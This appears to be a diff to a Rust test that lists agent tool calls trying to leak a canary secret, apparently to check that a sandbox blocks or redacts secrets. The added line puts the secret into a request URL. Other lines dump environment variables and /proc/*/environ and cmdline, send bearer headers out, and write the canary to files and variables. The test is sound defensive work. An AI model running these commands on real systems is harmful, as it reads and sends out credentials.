@@ -130,6 +130,7 @@ fn calls(port: u16) -> Vec<(&'static str, Value)> {
         ("process_run", json!({"shell": "env; cat /proc/*/environ | tr '\\0' '\\n'; cat /proc/*/cmdline"})),
         ("http_request", json!({"url": "http://127.0.0.1:9/", "headers": bearer})),
         ("http_request", json!({"url": "https://example.com/", "headers": bearer})),
+        ("http_request", json!({"url": url("/${secret:canary}")})),
         ("fs_write", json!({"path": "leak.txt", "content": "${secret:canary}"})),
         ("variable_set", json!({"name": "leak", "value": "${secret:canary}"})),
         ("process_run", json!({"argv": ["echo", "${secret:canary}"]})),
